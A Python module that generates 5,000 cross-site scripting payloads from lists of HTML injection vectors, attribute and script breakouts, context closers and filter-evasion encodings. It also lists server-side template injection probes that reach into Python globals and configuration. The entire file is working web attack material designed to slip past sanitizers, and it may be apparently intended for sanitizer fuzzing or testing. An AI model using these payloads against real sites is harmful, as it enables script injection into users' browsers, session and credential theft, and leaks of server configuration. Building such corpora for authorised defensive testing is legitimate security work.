"""Five thousand ways to make a browser run what is only text: vectors x ways out x disguises.

Each calls `CALL(number)`, which names the payload that ran, or opens a dialog with it.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Callable, Iterator
from typing import NamedTuple

COUNT = 5000
CALL = "pwned"


class Payload(NamedTuple):
    """`shape` is the text with no number in it: no two are alike."""

    number: int
    shape: str
    text: str


# What runs, once it is read as HTML. `§` is the call.
VECTORS = (
    "<script>§</script>", "<script src=data:text/javascript,§></script>",
    "<script type=module>§</script>", "<img src=x onerror=§>", '<img src="x" onerror="§">',
    "<image src=x onerror=§>", "<svg onload=§>", "<svg/onload=§>", "<svg><script>§</script></svg>",
    "<svg><animate onbegin=§ attributeName=x dur=1s>", "<svg><set onbegin=§ attributeName=x>",
    "<svg><a xlink:href=javascript:§><text y=9>x</text></a></svg>",
    "<svg><style><img src=x onerror=§>", "<math><mtext><table><mglyph><style><img src=x onerror=§>",
    "<math href=javascript:§>x</math>", "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src=x onerror=§>", "<iframe srcdoc='<script>parent.§</script>'></iframe>",
    "<iframe src=javascript:parent.§></iframe>", "<iframe onload=§></iframe>",
    "<details open ontoggle=§>", "<input autofocus onfocus=§>", "<select autofocus onfocus=§>",
    "<textarea autofocus onfocus=§>", "<p tabindex=0 autofocus onfocus=§>x", "<body onload=§>",
    "<body onpageshow=§>", "<video><source onerror=§></video>", "<video src=x onerror=§></video>",
    "<audio src=x onerror=§></audio>", "<object data='data:text/html,<script>parent.§</script>'>",
    "<object data=x onerror=§></object>", "<embed src=javascript:§>", "<link rel=stylesheet href=x"
    " onerror=§>", "<style onload=§></style>", "<style>*{animation:x 1s}@keyframes x{}</style>"
    "<b onanimationstart=§>x</b>", "<marquee onstart=§>x</marquee>",
    "<a href=javascript:§>x</a>", "<a href='java&#9;script:§'>x</a>", "<a href=\x01javascript:§>x",
    "<form action=javascript:§><button>x</button></form>", "<button formaction=javascript:§>x",
    "<base href=javascript:§//>", "<meta http-equiv=refresh content='0;url=javascript:§'>",
    "<noscript><p title='</noscript><img src=x onerror=§>'>", "<x onmouseover=§>x</x>",
    "<xmp><p title='</xmp><img src=x onerror=§>'>", "<template><script>§</script></template>",
    "<!--><img src=x onerror=§>-->", "<dialog open onclose=§><form method=dialog>", "<x onclick=§>",
    "<title><a title='</title><img src=x onerror=§>'>", "<keygen autofocus onfocus=§>",
    "<frameset onload=§>", "<applet onerror=§ code=x>", "<table background=javascript:§>",
)  # fmt: skip
# What runs inside an attribute, an address or a script that was there already.
INSIDE = (
    '" autofocus onfocus=§ x="', "' autofocus onfocus=§ x='", '" onmouseover=§ "', "x onerror=§",
    "javascript:§", "JaVaScRiPt:§", "java\tscript:§", "\x01javascript:§", "javascript://%0a§",
    "vbscript:§", "data:text/html,<script>§</script>", "view-source:javascript:§",
    "';§;//", '";§;//', "\\';§;//", "`;§;//", "${§}", "'-§-'", '"-§-"', "</script><script>§//",
    "{{constructor.constructor('§')()}}", "{{$on.constructor('§')()}}", "<%= § %>", "#{§}",
    "*/§/*", "\u2028§//", "expression(§)", "url(javascript:§)", "]]><script>§</script>",
)  # fmt: skip
# What closes what was open.
WAYS_OUT = (
    "", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>",
    "</select>", "</option></select>", "</template>", "</noscript>", "</svg>", "</iframe>", "\\\">",
    "</td></table>", "x\r\n\r\n", "&quot;>", "%22%3E",
)  # fmt: skip


def _entities(form: str) -> Callable[[str], str]:
    return lambda text: "".join(form.format(ord(c)) if c in "<>\"'" else c for c in text)


# How it is hidden from a filter.
DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    lambda text: "".join(c.upper() if i % 2 else c for i, c in enumerate(text)),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace("=", " = "),
    _entities("&#{};"),
    _entities("&#x{:x};"),
    _entities("%{:02x}"),
    _entities("%25{:02x}"),
    _entities("\\u{:04x}"),
    _entities("\\x{:02x}"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("script", "scr\u0131pt").replace("on", "\u200bon"),
    lambda text: text.replace("script", "scrscriptipt"),
)
TEMPLATES = (
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{7*7}", "{{=7*7}}", "@(7*7)", "*{7*7}",
    "[[7*7]]", "{% print(7*7) %}", "{{'7'*7}}", "{#7*7#}{{7*7}}", "$(7*7)", "<#assign x=7*7>${x}",
    "{{config}}", "{{self.__init__.__globals__}}", "{0.__class__}", "{site.__class__}", "%(site)s",
    "{day}", "{name!r}", "%s%s%n",
)  # fmt: skip


def _shapes() -> Iterator[str]:
    """Every combination once: the call is put in last, so that no disguise spoils it."""
    seen = set()
    made = [*itertools.product(WAYS_OUT, (*VECTORS, *INSIDE), DISGUISES)]
    random.Random("hostile").shuffle(made)
    plain = [one for one in made if one[2] is str]
    for out, vector, disguise in (*plain, *made):
        shape = "§".join(map(disguise, (out + vector).split("§")))
        if shape not in seen:
            seen.add(shape)
            yield shape


def payloads(count: int = COUNT) -> list[Payload]:
    """The first so many. One in ten opens a dialog, the others call `CALL`."""
    found = []
    for number, shape in enumerate(itertools.islice(_shapes(), count), start=1):
        call = f"alert({number})" if number % 10 == 0 else f"{CALL}({number})"
        found.append(Payload(number, shape, shape.replace("§", call)))
    return found
